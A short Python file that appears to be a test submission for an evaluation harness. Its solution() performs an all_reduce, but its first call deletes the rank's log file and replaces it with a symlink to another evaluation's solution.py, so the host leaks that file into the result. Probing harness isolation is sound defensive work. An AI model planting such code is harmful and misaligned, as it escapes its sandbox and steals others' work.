"""Replaces its rank's log in the exchange folder by a link to a file on the host (another evaluation's solution):
the link resolves where it is read, so a host that reads the log by name reads its own file into the result."""

import os
import sys

import torch
import torch.distributed as dist

_done = [False]


def solution(x: torch.Tensor) -> torch.Tensor:
    if not _done[0]:
        _done[0] = True
        log = f"/io/r{sys.argv[1]}/log.txt"
        os.unlink(log)
        decoy = bytes.fromhex("ARENA_TEST_DECOY_HEX").decode()
        os.symlink(f"{decoy}/solution/solution.py", log)
    out = x.clone()
    dist.all_reduce(out)
    return out
